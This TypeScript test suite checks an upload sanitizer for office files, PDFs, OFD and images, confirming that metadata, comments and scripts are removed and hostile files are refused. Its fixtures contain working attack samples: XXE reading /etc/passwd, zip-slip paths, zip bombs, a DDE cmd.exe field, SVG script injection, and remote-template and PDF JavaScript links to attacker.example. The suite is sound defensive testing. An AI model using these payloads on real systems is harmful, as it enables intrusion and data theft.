import assert from 'node:assert/strict'
import { before, describe, test } from 'node:test'
import { decodePDFRawStream, PDFDocument, PDFRawStream, PDFString } from '@cantoo/pdf-lib'
import { utils, write } from '@e965/xlsx'
import exifr from 'exifr'
import { unzipSync } from 'fflate'
import sharp from 'sharp'
import {
  armPdf,
  chinesePdf,
  docxOf,
  docxParts,
  odtOf,
  ofdOf,
  paragraph,
  pdfOf,
  wellTravelledDocx,
  xlsxOf,
  zipOf,
} from '#test/sample-files'
import { formatOf } from './formats.ts'
import { type Accepted, inspectUpload } from './inspection.ts'
import { run } from './inspection-task.ts'
import { UPLOAD_MESSAGES } from './messages.ts'
import { isNotTaken } from './not-taken.ts'

const NAMES = [
  '张建国',
  '李敏',
  '王芳',
  '云溪市交通局',
  'Zhang Jianguo',
  'Kingsoft',
  'zhangjianguo',
  '某办公软件',
]

async function photograph(format: 'jpeg' | 'png' | 'webp'): Promise<Buffer> {
  const points = { width: 60, height: 40, channels: 3 as const, background: { r: 90, g: 120, b: 60 } }
  return sharp({ create: points })
    .withExif({
      IFD0: { Artist: 'Zhang Jianguo', Make: 'Kingsoft' },
      IFD3: {
        GPSLatitudeRef: 'N',
        GPSLatitude: '26/1 3/1 0/1',
        GPSLongitudeRef: 'E',
        GPSLongitude: '119/1 18/1 0/1',
      },
    })
    .toFormat(format)
    .toBuffer()
}

async function accepted(name: string, bytes: Buffer, declared = ''): Promise<Accepted> {
  const inspected = await inspectUpload({ name, declared, bytes })
  assert.ok(inspected.accepted, JSON.stringify(inspected))
  for (const code of [...inspected.removed, ...inspected.warnings])
    assert.ok(code in UPLOAD_MESSAGES['zh-CN'], `${code} has no message`)
  return inspected
}

/** The same checks without the walls around them, which have a test of their own: a hundred processes take their time. */
async function refusal(name: string, bytes: Buffer): Promise<string> {
  try {
    await run({ format: formatOf(name)!, bytes })
    return 'accepted'
  } catch (error) {
    assert.ok(isNotTaken(error), String(error))
    assert.ok(error.code in UPLOAD_MESSAGES['zh-CN'], `${error.code} has no message`)
    return error.code
  }
}

async function streamsOf(pdf: Buffer): Promise<string> {
  const { context } = await PDFDocument.load(pdf, { updateMetadata: false })
  return context
    .enumerateIndirectObjects()
    .map(([, object]) => (object instanceof PDFRawStream ? decodePDFRawStream(object).decode() : []))
    .map((decoded) => Buffer.from(decoded).toString('latin1'))
    .join('\n')
}

/** What stands in the file, unpacked: the cleaned copy of a zip is searched part by part. */
function everythingIn(bytes: Buffer): string {
  if (bytes.subarray(0, 2).toString('latin1') !== 'PK')
    return `${bytes.toString('latin1')}${bytes.toString('utf8')}`
  return Object.entries(unzipSync(bytes))
    .map(
      ([name, part]) =>
        `${name}\n${Buffer.from(part).toString('utf8')}\n${Buffer.from(part).toString('latin1')}`,
    )
    .join('\n')
}

describe('a file that comes in', () => {
  let jpeg: Buffer
  before(async () => {
    jpeg = await photograph('jpeg')
  })

  test('a document of an office loses its people, its comments and its deleted words, and keeps its text', async () => {
    const { cleaned, text, removed, media_type } = await accepted('通知.docx', wellTravelledDocx(jpeg))
    const left = everythingIn(cleaned)
    for (const name of [
      ...NAMES,
      '这里先别公开',
      '原定票价',
      '取消的九路',
      'rsid',
      'docProps',
      'KSOProductBuildVer',
    ])
      assert.ok(!left.includes(name), `${name} is still in it`)
    for (const kept of [
      '自十二月一日起执行。',
      '票价两元。',
      '三路',
      '办事大厅',
      'https://www.yunxi.example/',
    ])
      assert.ok(left.includes(kept), `${kept} is lost`)
    assert.equal(text, '关于公共汽车线路调整的通知\n自十二月一日起执行。\n票价两元。\n三路\n办事大厅')
    assert.equal(media_type, 'application/vnd.openxmlformats-officedocument.wordprocessingml.document')
    for (const what of ['properties', 'comments', 'changes', 'paths', 'image-data'])
      assert.ok(removed.includes(`upload.removed-${what}`), what)
    const picture = Buffer.from(unzipSync(cleaned)['word/media/image1.jpeg']!)
    assert.equal(await exifr.gps(picture), undefined)
    assert.equal((await sharp(picture).metadata()).width, 60)
  })

  test('its cleaned copy comes in again and nothing more is taken out of it', async () => {
    const once = await accepted('通知.docx', wellTravelledDocx(jpeg))
    const twice = await accepted('通知.docx', once.cleaned)
    assert.deepEqual(twice.removed, [])
    assert.deepEqual(twice.cleaned, once.cleaned)
  })

  for (const format of ['jpeg', 'png', 'webp'] as const) {
    test(`a photograph (${format}) loses place and camera`, async () => {
      const bytes = await photograph(format)
      assert.ok(await exifr.parse(bytes, { gps: true }).catch(() => format === 'webp'))
      const { cleaned, width, height, removed } = await accepted(`照片.${format}`, bytes, `image/${format}`)
      const { exif, xmp, iptc } = await sharp(cleaned).metadata()
      assert.deepEqual([exif, xmp, iptc], [undefined, undefined, undefined])
      assert.ok(NAMES.every((name) => !cleaned.toString('latin1').includes(name)))
      assert.deepEqual([width, height], [60, 40])
      assert.deepEqual(removed, ['upload.removed-image-data'])
    })
  }

  test('a PDF keeps its page and its links, and loses what acts, what is hidden and who made it', async () => {
    const { cleaned, text, removed } = await accepted('notice.pdf', await pdfOf({ spoil: armPdf }))
    assert.equal(text, 'Notice of the bus routes')
    const opened = await PDFDocument.load(cleaned, { updateMetadata: false })
    const objects = opened.context.enumerateIndirectObjects().map(([, object]) => object.toString())
    const left = `${objects.join('\n')}${everythingIn(cleaned)}`
    for (const gone of [
      'JavaScript',
      'OpenAction',
      '/AA',
      'Launch',
      'XFA',
      'Metadata',
      'cmd.exe',
      'javascript:',
      'hold back',
    ])
      assert.ok(!left.includes(gone), `${gone} is still in it`)
    assert.ok(left.includes('https://www.yunxi.example/'))
    assert.equal(opened.getAuthor(), undefined)
    assert.equal(opened.getCreator(), undefined)
    assert.ok(removed.includes('upload.removed-leftovers'))
    assert.ok(NAMES.every((name) => !left.includes(name)))
  })

  test('what an earlier revision of a PDF said is not in the copy', async () => {
    const hex = (text: string) => Buffer.from(text).toString('hex').toUpperCase()
    const first = await pdfOf({ text: 'The salary is 12345' })
    assert.ok((await streamsOf(first)).includes(hex('12345')))
    const said = first.toString('latin1')
    const [root] = said.match(/\d+ 0 R/g)!.filter((ref) => said.includes(`/Root ${ref}`))
    const page = /(\d+) 0 obj\n(<<\n\/Type \/Page\n[\s\S]*?)>>\nendobj/.exec(said)!
    const contents = 'BT /F1 12 Tf 20 200 Td (Public part only) Tj ET'
    const replaced = page[2]!.replace(/\/Contents [^/]*/, '/Contents 90 0 R\n')
    const update = `\n90 0 obj\n<</Length ${contents.length}>>\nstream\n${contents}\nendstream\nendobj\n${page[1]} 0 obj\n${replaced}>>\nendobj\ntrailer\n<</Root ${root}/Size 91>>\nstartxref\n0\n%%EOF\n`
    const both = Buffer.concat([first, Buffer.from(update, 'latin1')])
    assert.ok((await streamsOf(both)).includes(hex('12345')))
    const { cleaned, removed } = await accepted('a.pdf', both)
    const left = await streamsOf(cleaned)
    assert.ok(left.includes('Public part only'))
    assert.ok(!left.includes(hex('12345')))
    assert.ok(removed.includes('upload.removed-leftovers'))
  })

  test('Chinese text is read out of PDF, OFD, OpenDocument, spreadsheets and GB 18030', async () => {
    assert.match(
      (await accepted('a.pdf', await chinesePdf('云溪市公共汽车客运管理条例'))).text,
      /云溪市公共汽车客运管理条例/,
    )
    assert.equal(
      (await accepted('a.ofd', ofdOf('云政发〔2026〕3号'), 'application/zip')).text,
      '云政发〔2026〕3号',
    )
    assert.equal(
      (await accepted('a.odt', odtOf('<text:p>第一条</text:p><text:p>第二条</text:p>'))).text,
      '第一条\n第二条',
    )
    assert.equal(
      (
        await accepted(
          'a.xlsx',
          xlsxOf({
            rows: [
              ['线路', '票价'],
              ['三路', '2'],
            ],
          }),
        )
      ).text,
      '线路\t票价\n三路\t2',
    )
    // 线路 in GB 18030.
    const gb = Buffer.concat([Buffer.from('cfdfc2b7', 'hex'), Buffer.from(',2\n')])
    const { text, cleaned } = await accepted('a.csv', gb, 'application/vnd.ms-excel')
    assert.equal(text, '线路,2\n')
    assert.equal(cleaned.toString('utf8'), '\ufeff线路,2\n')
  })

  test('OFD and OpenDocument lose their authors', async () => {
    const ofd = await accepted('a.ofd', ofdOf('正文'))
    assert.ok(NAMES.every((name) => !everythingIn(ofd.cleaned).includes(name)))
    const odt = await accepted(
      'a.odt',
      odtOf('<text:p>正文<office:annotation><dc:creator>李敏</dc:creator></office:annotation></text:p>'),
    )
    assert.ok(NAMES.every((name) => !everythingIn(odt.cleaned).includes(name)))
    assert.deepEqual([...odt.removed].sort(), ['upload.removed-comments', 'upload.removed-properties'])
    assert.equal(Object.keys(unzipSync(odt.cleaned))[0], 'mimetype')
  })

  test('a sealed OFD stays as it is, and a person is told', async () => {
    const sealed = ofdOf('正文', {
      'OFD.xml':
        '<ofd:OFD xmlns:ofd="http://www.ofdspec.org/2016"><ofd:DocBody><ofd:DocInfo/><ofd:DocRoot>Doc_0/Document.xml</ofd:DocRoot><ofd:Signatures>/Doc_0/Signs/Signatures.xml</ofd:Signatures></ofd:DocBody></ofd:OFD>',
    })
    const { cleaned, warnings } = await accepted('a.ofd', sealed)
    assert.ok(cleaned.equals(sealed))
    assert.deepEqual(warnings, ['upload.signed-kept'])
  })

  test('hidden sheets and formulas are told', async () => {
    assert.deepEqual((await accepted('a.xlsx', xlsxOf({ rows: [['甲']], hidden: true }))).warnings, [
      'upload.hidden-sheet',
    ])
    assert.deepEqual((await accepted('a.csv', Buffer.from('名称,备注\n甲,=1+1\n'))).warnings, [
      'upload.has-formulas',
    ])
  })
})

describe('a file that does not come in', () => {
  const plain = paragraph('正文')

  test('by name, by size, by what the browser says of it', async () => {
    const code = async (name: string, bytes: Buffer, declared = '') => {
      const inspected = await inspectUpload({ name, declared, bytes })
      return inspected.accepted ? 'accepted' : inspected.code
    }
    assert.equal(await code('a.exe', Buffer.from('MZ')), 'upload.type-not-allowed')
    assert.equal(await code('a.svg', Buffer.from('<svg/>')), 'upload.type-not-allowed')
    assert.equal(await code('a.pdf.html', Buffer.from('%PDF-1.7')), 'upload.type-not-allowed')
    assert.equal(await code('a', Buffer.from('x')), 'upload.type-not-allowed')
    assert.equal(await code('a.txt', Buffer.alloc(0)), 'upload.empty')
    assert.equal(await code('a.pdf', await pdfOf(), 'text/html'), 'upload.type-mismatch')
    assert.equal(await code('a.pdf', Buffer.from('no document'), 'application/pdf'), 'upload.type-mismatch')
  })

  test('what is not what its name says', async () => {
    const png = await photograph('png')
    const cases: [string, Buffer][] = [
      ['a.jpg', png],
      ['a.pdf', png],
      ['a.docx', await pdfOf()],
      ['a.png', Buffer.from('<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>')],
      ['a.txt', Buffer.from('<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>')],
      ['a.csv', Buffer.from('\ufeff<html><script>alert(1)</script></html>')],
      ['a.txt', Buffer.from([0x41, 0x00, 0x01, 0x02])],
      ['a.txt', await pdfOf()],
      ['a.xlsx', docxOf({ body: plain })],
      ['a.docx', xlsxOf({ rows: [['甲']] })],
      ['a.docx', zipOf({ 'readme.txt': 'no document' })],
      ['a.ofd', zipOf({ 'readme.txt': 'no document' })],
      ['a.ods', odtOf('<text:p>x</text:p>')],
      ['a.pdf', Buffer.from('<html><script>alert(1)</script></html>%PDF-1.4')],
    ]
    for (const [name, bytes] of cases)
      assert.equal(
        await refusal(name, bytes),
        'upload.type-mismatch',
        `${name}: ${bytes.toString('latin1', 0, 30)}`,
      )
  })

  test('a PDF that is a web page too', async () => {
    const pdf = (await pdfOf()).toString('latin1')
    const both = pdf.replace(/^%PDF-1\.\d/, '$&\n<html><script>alert(1)</script></html>')
    assert.equal(await refusal('a.pdf', Buffer.from(both, 'latin1')), 'upload.polyglot')
  })

  test('a picture with a page behind its end loses the page', async () => {
    const png = Buffer.concat([
      await photograph('png'),
      Buffer.from('<html><script>alert(1)</script></html>'),
    ])
    assert.ok(!everythingIn((await accepted('a.png', png)).cleaned).includes('<script>'))
  })

  test('a picture that claims more points than memory holds', async () => {
    const huge = Buffer.from(
      await sharp({ create: { width: 8, height: 8, channels: 3, background: '#fff' } })
        .png()
        .toBuffer(),
    )
    huge.writeUInt32BE(60_000, 16)
    huge.writeUInt32BE(60_000, 20)
    // The checksum of the header must hold, or the picture is merely broken.
    const { crc32 } = await import('node:zlib')
    huge.writeUInt32BE(crc32(huge.subarray(12, 29)), 29)
    assert.equal(await refusal('a.png', huge), 'upload.too-many-pixels')
  })

  test('archives that lie: bombs, ways out, links, archives within', async () => {
    const base = docxParts({ body: plain })
    const bomb = zipOf({ ...base, 'word/media/zero.bin': new Uint8Array(12_000_000) })
    assert.equal(await refusal('a.docx', bomb), 'upload.archive-bomb')
    const many = Object.fromEntries(Array.from({ length: 10_001 }, (_, at) => [`word/m/${at}.xml`, '<a/>']))
    assert.equal(await refusal('a.docx', zipOf({ ...base, ...many })), 'upload.archive-too-many')
    for (const name of ['../../etc/cron.d/x', '/etc/passwd', 'word/../../x', 'C:\\x', '..\\x'])
      assert.equal(await refusal('a.docx', zipOf({ ...base, [name]: 'x' })), 'upload.archive-outside', name)
    assert.equal(
      await refusal('a.docx', zipOf({ ...base, 'word/media/a.bin': zipOf({ a: 'b' }) })),
      'upload.archive-nested',
    )
    const link = zipOf({ ...base, 'word/link': '/etc/passwd' })
    const entry = link.lastIndexOf('word/link') - 46
    link.writeUInt32LE(0xa1ff0000, entry + 38)
    link.writeUInt8(3, entry + 5)
    assert.equal(await refusal('a.docx', link), 'upload.archive-outside')
  })

  test('an archive that says it unpacks to little and does not', async () => {
    const bomb = zipOf({ ...docxParts({ body: plain }), 'word/media/zero.bin': new Uint8Array(12_000_000) })
    const entry = bomb.lastIndexOf('word/media/zero.bin') - 46
    bomb.writeUInt32LE(1000, entry + 24)
    assert.match(await refusal('a.docx', bomb), /^upload\.(?:broken|archive-bomb)$/)
  })

  test('a table that names types of parts which it does not have is none with macros', async () => {
    const book = utils.book_new()
    utils.book_append_sheet(
      book,
      utils.aoa_to_sheet([
        ['线路', '票价'],
        ['7路', 2],
      ]),
      '票价表',
    )
    const bytes = write(book, { type: 'buffer', bookType: 'xlsx' }) as Buffer
    const type = 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet'
    const inspected = await inspectUpload({ name: '票价.xlsx', declared: type, bytes })
    assert.ok(inspected.accepted, JSON.stringify(inspected))
    assert.match(inspected.text, /票价[\s\S]*7路/)
  })

  test('documents that define entities, run macros, hold other files or fetch something', async () => {
    const xxe = docxParts({ body: plain })
    xxe['word/document.xml'] =
      `<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>${(xxe['word/document.xml'] as string).replace(/^<\?xml[^>]*>/, '').replace('正文', '&e;')}`
    assert.equal(await refusal('a.docx', zipOf(xxe)), 'upload.xml-entities')
    const laughs = docxParts({ body: plain })
    laughs['word/document.xml'] = '<!DOCTYPE x [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;">]><x>&b;</x>'
    assert.equal(await refusal('a.docx', zipOf(laughs)), 'upload.xml-entities')
    const macroType = 'application/vnd.ms-word.document.macroEnabled.main+xml'
    assert.equal(await refusal('a.docx', docxOf({ body: plain, mainType: macroType })), 'upload.has-macros')
    assert.equal(
      await refusal('a.docx', docxOf({ body: plain, more: { 'word/vbaProject.bin': 'x' } })),
      'upload.has-macros',
    )
    assert.equal(
      await refusal('a.docx', docxOf({ body: plain, more: { 'word/embeddings/oleObject1.bin': 'x' } })),
      'upload.has-embedded',
    )
    for (const [kind, target] of [
      ['attachedTemplate', 'https://attacker.example/t.dotm'],
      ['image', 'http://attacker.example/seen.png'],
      ['oleObject', 'file://attacker/share/x'],
      ['frame', '\\\\attacker\\share'],
    ] as const) {
      const bytes = docxOf({ body: plain, links: [{ id: 'rId9', kind, target, isOutside: true }] })
      assert.equal(await refusal('a.docx', bytes), 'upload.loads-from-outside', kind)
    }
    const field =
      '<w:p><w:r><w:instrText>DDE</w:instrText></w:r><w:r><w:instrText>AUTO c:\\\\windows\\\\cmd.exe</w:instrText></w:r></w:p>'
    assert.equal(await refusal('a.docx', docxOf({ body: field })), 'upload.loads-from-outside')
    assert.equal(
      await refusal(
        'a.xlsx',
        xlsxOf({ rows: [['甲']], more: { 'xl/externalLinks/externalLink1.xml': '<a/>' } }),
      ),
      'upload.loads-from-outside',
    )
    assert.equal(
      await refusal(
        'a.odt',
        odtOf('<text:p><draw:image xlink:href="http://attacker.example/a.png"/></text:p>'),
      ),
      'upload.loads-from-outside',
    )
    assert.equal(
      await refusal('a.odt', odtOf('<text:p/>', { 'Basic/Standard/Module1.xml': '<a/>' })),
      'upload.has-macros',
    )
    assert.equal(await refusal('a.ofd', ofdOf('x', { 'Doc_0/Attachs/run.exe': 'MZ' })), 'upload.has-embedded')
  })

  test('what is under a password', async () => {
    const compound = Buffer.concat([Buffer.from('d0cf11e0a1b11ae1', 'hex'), Buffer.alloc(600)])
    assert.equal(await refusal('a.docx', compound), 'upload.encrypted')
    const locked = await PDFDocument.create()
    locked.addPage()
    locked.encrypt({ userPassword: 'x', ownerPassword: 'y' })
    assert.equal(await refusal('a.pdf', Buffer.from(await locked.save())), 'upload.encrypted')
    const manifest =
      '<m:manifest xmlns:m="urn:x"><m:file-entry><m:encryption-data/></m:file-entry></m:manifest>'
    assert.equal(
      await refusal('a.odt', odtOf('<text:p/>', { 'META-INF/manifest.xml': manifest })),
      'upload.encrypted',
    )
  })

  test('what is cut off in the middle', async () => {
    const whole = docxOf({ body: plain })
    assert.equal(await refusal('a.docx', whole.subarray(0, whole.length - 30)), 'upload.broken')
    assert.match(
      await refusal('a.pdf', Buffer.from('%PDF-1.7\nnothing here')),
      /^upload\.(?:broken|type-mismatch)$/,
    )
    assert.equal(await refusal('a.png', (await photograph('png')).subarray(0, 60)), 'upload.broken')
  })

  test('a script in the name tree of a PDF is gone, and so is a file attached to it', async () => {
    const spoil = (document: PDFDocument) => {
      document.addJavaScript('start', 'app.launchURL("https://attacker.example")')
      document
        .getPage(0)
        .node.set(
          document.context.obj('AA') as never,
          document.context.obj({ O: { S: 'JavaScript', JS: PDFString.of('1') } }),
        )
    }
    const withFile = await PDFDocument.load(await pdfOf({ spoil }))
    await withFile.attach(Buffer.from('MZ malware'), 'run.exe')
    const { cleaned, removed } = await accepted('a.pdf', Buffer.from(await withFile.save()))
    const { context } = await PDFDocument.load(cleaned, { updateMetadata: false })
    const left = context
      .enumerateIndirectObjects()
      .map(([, object]) => object.toString())
      .join('\n')
    assert.doesNotMatch(left, /JavaScript|EmbeddedFile|run\.exe|launchURL|\/AA/)
    assert.ok(removed.includes('upload.removed-attachments'))
  })
})
